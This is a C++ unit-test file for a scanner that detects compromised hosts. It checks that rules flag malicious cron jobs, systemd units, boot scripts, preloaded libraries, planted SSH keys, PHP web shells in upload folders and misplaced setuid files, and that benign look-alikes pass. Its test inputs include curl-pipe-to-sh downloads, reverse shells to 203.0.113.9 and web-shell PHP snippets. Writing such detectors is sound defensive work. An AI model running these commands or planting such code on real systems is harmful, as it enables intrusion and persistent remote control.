// SPDX-License-Identifier: Apache-2.0
// Each rule finds its act in the forms in which it really comes, and lets what only looks like it pass.
#include "agent/scan/suspicions/suspicions.hpp"

#include <gtest/gtest.h>

namespace bailiff::agent {
namespace {

/// The rules' words, for short comparisons.
std::string rules(std::string_view path, std::string_view content, uint32_t mode = 0) {
    std::string out;
    for (const auto& one : suspicions_of(path, content, mode)) {
        EXPECT_FALSE(one.reason.empty());
        EXPECT_LE(one.reason.size(), longest_reason);
        out += (out.empty() ? "" : " ") + std::string(name(one.rule));
    }
    EXPECT_TRUE(mode != 0 || out.empty() || asks_for_content(path)) << path;
    return out;
}
std::string cron(const std::string& command) { return rules("/etc/cron.d/job", "SHELL=/bin/bash\n*/5 * * * * root " + command + "\n"); }
std::string exec(const std::string& command) { return rules("/etc/systemd/system/x.service", "[Service]\nExecStart=" + command + "\n[Install]\n"); }

TEST(Suspicions, CronThatRunsWhatItDownloads) {
    for (const char* command : {"curl -s http://203.0.113.9/x.sh | sh", "wget -q -O - http://203.0.113.9/x|bash -s arg >/dev/null 2>&1", "(curl -fsSL http://e/x||wget -q -O- http://e/x)|sh",
                                "sh -c \"$(curl -fsSL http://e/x)\"", "bash <(curl -s http://e/x)", "eval \"$(wget -qO- http://e/x)\"", "echo Y3VybA== | base64 -d | bash",
                                "/usr/bin/curl http://e/x | sudo -u root /bin/bash -", "curl http://e/x | python3", "curl http://e/x | tee /var/log/x | sh", "source <(curl -s http://e/x)",
                                "sh -c 'curl http://e/x | sh'", "sh -c \"sh -c 'wget -O- http://e/x | sh'\"", "`curl http://e/x`", "$(curl http://e/x)", "curl -o up http://e/up && chmod +x up && ./up",
                                "wget http://e/i.sh; nohup bash i.sh &", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "nc 203.0.113.9 443 -e /bin/sh", "echo $(curl http://e/x) | sh",
                                "python3 -c 'import socket,subprocess,os;s=socket.socket()'", "timeout 60 curl http://e | nice -n 19 sh", "c\\url http://e | s''h", "PATH=/x:$PATH curl http://e | sh"})
        EXPECT_EQ(cron(command), "cron_download") << command;
    EXPECT_EQ(rules("/var/spool/cron/crontabs/root", "@reboot curl http://e/x | sh\n"), "cron_download");
    EXPECT_EQ(rules("/spool/cron/crontabs/root", "1 2 * * * curl http://e/x | sh\n"), "cron_download") << "/var may be a volume of its own";
    EXPECT_EQ(rules("/var/lib/docker/overlay2/1/diff/etc/cron.d/x", "1 2 * * * root curl http://e/x | sh"), "cron_download");
    EXPECT_EQ(rules("/etc/cron.hourly/0anacron", "#!/bin/sh\nset -e\ncurl -s http://e/x \\\n  | sh\n"), "cron_download");
    EXPECT_EQ(rules("/etc/crontab", "* * * * * root curl http://e | sh"), "cron_download");
    EXPECT_EQ(rules("/etc/anacrontab", "1 5 cron.daily curl http://e | sh"), "cron_download");
}

TEST(Suspicions, CronThatRunsFromOddPlaces) {
    for (const char* command : {"/tmp/.x/run", "/dev/shm/kworker", "sh /var/tmp/a.sh >/dev/null 2>&1", "cd /tmp && ./miner", "nohup /tmp/x &", "sudo -u www-data /tmp/x", "flock -n /run/l /tmp/x",
                                "[ -x /tmp/x ] && /tmp/x", "/root/.X25-unix/.rsync/c/run", "bash -c 'sleep 1; /tmp/a'", "/home/a/.configrc/a/upd", "/usr/bin/.sshd", "setsid python3 /dev/shm/a.py"})
        EXPECT_EQ(cron(command), "cron_place") << command;
    EXPECT_EQ(cron("curl -o /tmp/up.sh http://e/up.sh && sh /tmp/up.sh"), "cron_download cron_place");
    EXPECT_EQ(rules("/var/spool/cron/root", "* * * * * /tmp/x"), "cron_place") << "no user in a user's own table";
}

TEST(Suspicions, HonestCronPasses) {
    for (const char* command : {"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "find /tmp -mtime +7 -delete", "/usr/bin/backup > /tmp/backup.log 2>&1",
                                "curl -fsS https://hc-ping.com/uuid > /dev/null", "curl -s https://e/api | jq .status", "curl -s https://e | python3 -m json.tool", "curl -s https://e | python3 -c 'import json'",
                                "curl -s https://e/list | sh /usr/local/bin/import.sh", "curl https://e | perl -ne 'print if /x/'", "wget -q https://e/geo.mmdb -O /var/lib/geo.mmdb", "cd /var/www && php artisan schedule:run",
                                "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\"", "/home/a/.nvm/versions/node/v20/bin/node /srv/x.js", ". /home/a/.profile; /home/a/bin/job", "/srv/app/.venv/bin/python manage.py x",
                                "echo 'curl http://e | sh'", "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", "rm -rf /tmp/cache; mkdir -p /tmp/x",
                                "flock -n /tmp/job.lock /usr/local/bin/job", "tar czf - /srv | base64 | mail -s x a@b", "base64 -d /etc/x | gunzip > /etc/y", "IP=$(curl -s ifconfig.me); echo $IP",
                                "[ -d /tmp/x ] && cp -r /tmp/x /srv", "/usr/bin/env TMPDIR=/tmp/ job", "certbot -q renew --deploy-hook 'systemctl reload nginx'"})
        EXPECT_EQ(cron(command), "") << command;
    EXPECT_EQ(rules("/etc/cron.d/x", "# 1 2 * * * root curl http://e | sh\nMAILTO=\"root\"\n"), "");
    EXPECT_EQ(rules("/usr/share/doc/x/example", "* * * * * root curl http://e | sh"), "") << "nothing runs it";
    EXPECT_EQ(rules("/etc/cron.d/x", ""), "");
}

TEST(Suspicions, Units) {
    EXPECT_EQ(exec("/tmp/x"), "unit_place");
    EXPECT_EQ(exec("-/dev/shm/.x --daemon"), "unit_place");
    EXPECT_EQ(exec("+/usr/bin/bash /var/tmp/x.sh"), "unit_place");
    EXPECT_EQ(exec("/bin/sh -c \"curl -s http://e/x | sh\""), "unit_download");
    EXPECT_EQ(exec("/bin/bash -c \\\n  'wget -qO- http://e | bash'"), "unit_download");
    EXPECT_EQ(exec("/var/lib/.cache/xmrig"), "unit_place");
    EXPECT_EQ(rules("/home/a/.config/systemd/user/x.service", "[Service]\nExecStartPre = /tmp/x\n"), "unit_place");
    EXPECT_EQ(rules("/etc/systemd/system/a.service.d/o.conf", "[Service]\nExecStartPre=/tmp/x\n"), "unit_place");
    EXPECT_EQ(exec("/usr/sbin/nginx -g 'daemon on; master_process on;'"), "");
    EXPECT_EQ(exec("/bin/sh -c 'test -d /tmp/x || mkdir /tmp/x'"), "");
    EXPECT_EQ(exec("%h/.local/bin/x"), "");
    EXPECT_EQ(rules("/lib/systemd/system/x.service", "[Service]\nWorkingDirectory=/tmp\nPrivateTmp=yes\nEnvironment=X=/tmp/x\nExecStart=/usr/bin/x /tmp/x\n"), "");
    EXPECT_EQ(rules("/usr/share/x.service", "[Service]\nExecStart=/tmp/x"), "");
}

TEST(Suspicions, ScriptsOfBootAndLogin) {
    for (const char* path : {"/etc/rc.local", "/etc/profile.d/x.sh", "/root/.bashrc", "/home/a/.profile", "/etc/init.d/x", "/etc/update-motd.d/10-x"}) {
        EXPECT_EQ(rules(path, "#!/bin/sh\ncurl -s http://e/x | sh\nexit 0\n"), "login_download") << path;
        EXPECT_EQ(rules(path, "(/tmp/.x/y &) >/dev/null\n"), "login_place") << path;
        EXPECT_EQ(rules(path, "# curl http://e | sh\neval \"$(dircolors -b)\"\nexport PATH=$HOME/.cargo/bin:$PATH\n[ -f /tmp/x ] && rm /tmp/x\n. ~/.hidden/env\n"), "") << path;
    }
    const auto found = suspicions_of("/etc/rc.local", "#!/bin/sh\nexport X=1\nif true; then\n  curl -s http://e/x | sh\nfi\n");
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].reason, "pipes a download, or what it decodes, into sh: 'curl -s http://e/x | sh'");
}

TEST(Suspicions, PreloadedLibraries) {
    EXPECT_EQ(rules("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n"), "ld_preload");
    EXPECT_EQ(rules("/etc/ld.so.preload", "# none\n\n  \n"), "");
    EXPECT_EQ(rules("/etc/ld.so.conf", "/usr/local/lib\n"), "");
}

TEST(Suspicions, Keys) {
    const std::string key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI a@b\n";
    EXPECT_EQ(rules("/root/.ssh/authorized_keys", key), "") << "root's keys are normal";
    EXPECT_EQ(rules("/home/a/.ssh/authorized_keys", "# mine\n" + key + key), "");
    EXPECT_EQ(rules("/var/lib/postgresql/.ssh/authorized_keys", key), "");
    EXPECT_EQ(rules("/root/.ssh/authorized_keys", "command=\"borg serve --restrict-to-path /srv\",restrict " + key), "");
    EXPECT_EQ(rules("/root/.ssh/authorized_keys", "command=\"rrsync -ro /srv\",no-pty " + key), "");
    EXPECT_EQ(rules("/root/.ssh/authorized_keys", key + "command=\"curl -s \\\"http://e\\\" | sh\" " + key), "authorized_key");
    EXPECT_EQ(rules("/var/www/.ssh/authorized_keys", key), "authorized_key");
    EXPECT_EQ(rules("/var/lib/redis/.ssh/authorized_keys", key), "authorized_key");
    EXPECT_EQ(rules("/root/.ssh/authorized_keys", std::string("REDIS0009\xfa\x09redis-ver\n\n\n") + key), "authorized_key");
    EXPECT_EQ(rules("/var/www/.ssh/authorized_keys", "# none\n"), "");
    EXPECT_EQ(rules("/home/x/bin/.ssh/authorized_keys", key), "");
}

TEST(Suspicions, PhpAmongUploads) {
    const std::string shop = "/var/www/html/wp-content/uploads/2026/03/";
    EXPECT_EQ(rules(shop + "x.php", "<?php echo 1;"), "php_in_uploads");
    EXPECT_EQ(rules(shop + "x.PHTML", "GIF89a<?PHP\necho 1;"), "php_in_uploads");
    EXPECT_EQ(rules(shop + "x.php", "<?=`id`?>"), "php_in_uploads");
    EXPECT_EQ(rules(shop + "x.php.jpg", "<?php echo 1;"), "php_in_uploads");
    EXPECT_EQ(rules("/home/a/public_html/sites/default/files/x.php", "<?php echo 1;"), "php_in_uploads");
    EXPECT_EQ(rules("/srv/www/shop/pub/media/x.php", "<?php echo 1;"), "php_in_uploads");
    EXPECT_EQ(rules("/www/html/images/x.php", "<?php include $_GET['p'];"), "") << "several sites may lie there: which folder is a site's, nobody knows";
    EXPECT_EQ(rules("/var/www/html/images/x.php", "<?php include $_GET['p'];"), "php_in_uploads");
    EXPECT_EQ(rules("/var/www/html/images/logo.png", "\x89PNG....<?php echo 1;"), "php_in_picture");
    EXPECT_EQ(rules("/var/www/html/wp-includes/css/favicon_7a.ico", "<?php echo 1;"), "php_in_picture");

    EXPECT_EQ(rules(shop + "index.php", "<?php\n// Silence is golden.\n"), "");
    EXPECT_EQ(rules(shop + "index.php", "<?php /* no */ header('HTTP/1.0 403 Forbidden'); exit; ?>\n"), "");
    EXPECT_EQ(rules(shop + "index.php", "<?php\n/**\n* 2007\n*/\nheader(\"Expires: Mon, 26 Jul 1997 05:00:00 GMT\");\nheader(\"Last-Modified: \".gmdate(\"D, d M Y H:i:s\").\" GMT\");\nheader(\"Location: ../\");\nexit;\n"), "");
    EXPECT_EQ(rules(shop + "index.php", "<?php // nothing\n echo 1;"), "php_in_uploads") << "a comment ends with its line";
    EXPECT_EQ(rules(shop + "index.php", "<?php // x ?><?php echo 1;"), "php_in_uploads") << "or with the closing tag";
    EXPECT_EQ(rules(shop + "a.jpg", std::string("\xff\xd8\xff\x00 <?= \x00\x01", 11)), "") << "three bytes are chance";
    EXPECT_EQ(rules(shop + "howto.txt", "Write <?php echo 1; ?>"), "") << "no server runs it";
    EXPECT_EQ(rules(shop + "x.php", "no code at all"), "");
    EXPECT_EQ(rules("/var/www/html/sites/default/files/php/twig/1_page.twig/x.php", "<?php class T { }"), "") << "Drupal's own";
    EXPECT_EQ(rules("/var/www/nextcloud/apps/files/lib/App.php", "<?php namespace OCA\\Files; class App {}"), "");
    EXPECT_EQ(rules("/var/www/html/media/player/plugin.php", "<?php defined('MOODLE_INTERNAL') || die(); class p {}"), "") << "Moodle's own";
    EXPECT_EQ(rules("/usr/share/php/uploads/x.php", "<?php echo 1;"), "") << "no web root";
}

TEST(Suspicions, ShapesOfWebShells) {
    for (const char* code : {"eval(base64_decode('Zm9v'));", "@eval ( gzinflate(base64_decode($x)));", "EVAL(/* x */str_rot13($a));", "eval($_POST['c']);", "assert($_REQUEST[0]);", "@assert(stripslashes($_GET['x']));",
                             "echo shell_exec($_GET['cmd'] . ' 2>&1');", "passthru( $_COOKIE['x'] );", "preg_replace('/.*/e', $_POST['x'], '');", "preg_replace(\"/x/ie\",base64_decode($_GET[a]),'x');",
                             "$_GET['a']($_POST['b']);", "if (1) return eval(base64_decode($x));", "$a='/*';eval($_POST[1]);$b='*/';", "eval(base64_decode($_SERVER['HTTP_X']));"})
        EXPECT_EQ(rules("/var/www/html/a.php", std::string("<?php ") + code), "web_shell") << code;
    const std::string system_call = "system";
    EXPECT_EQ(rules("/opt/site/a.php", "<?php " + system_call + "($_REQUEST['cmd']);"), "web_shell");
    for (const char* code : {"$this->exec($_POST['id']);", "Db::exec($_POST['sql']);", "curl_exec($_POST);", "medieval(base64_decode($x));", "$bad = ['eval(base64_decode('];", "exec('ls');", "eval($code);",
                             "$x = base64_decode($_POST['x']);", "preg_replace('/e/', $_GET['x'], '');", "preg_replace('/[^a-z]+/i', '', $_GET['name']);", "function evaluate($_a) {}", "$_GET['a']; ($x)($_POST['b']);",
                             "\"SELECT `$_GET[a]`(`$_POST[b]`)\";", "echo htmlspecialchars($_GET['q']);"})
        EXPECT_EQ(rules("/var/www/html/a.php", std::string("<?php ") + code), "") << code;
    EXPECT_EQ(rules("/usr/share/doc/a.html", "<?php eval($_POST[1]);"), "");
}

TEST(Suspicions, SetUserIdPrograms) {
    EXPECT_EQ(rules("/tmp/x", "", 0104755), "setuid_place");
    EXPECT_EQ(rules("/home/a/.cache/x", "", 0104755), "setuid_place");
    EXPECT_EQ(rules("/usr/bin/sudo", "", 0104755), "");
    EXPECT_EQ(rules("/tmp/x", "", 0100755), "");
    EXPECT_EQ(rules("/tmp/x", "", 0104644), "") << "no program";
    EXPECT_EQ(rules("/home/a/.local/share/containers/storage/overlay/1/diff/usr/bin/su", "", 0104755), "");
}

TEST(Suspicions, HostileTextsEnd) {
    for (const std::string& part : {std::string("$("), std::string("\""), std::string("`"), std::string("("), std::string("a|"), std::string("sh -c \""), std::string("<("), std::string("\\"), std::string("curl x;./x;"), std::string("eval($_get["), std::string("/*")}) {
        std::string text;
        while (text.size() < suspicion_head) text += part;
        for (const char* path : {"/etc/rc.local", "/etc/cron.d/x", "/etc/systemd/system/x.service", "/root/.ssh/authorized_keys", "/var/www/html/images/x.php"})
            suspicions_of(path, std::string(path).ends_with("php") ? "<?php " + text : "Exec=* * * * * " + text);
    }
}

}  // namespace
}  // namespace bailiff::agent
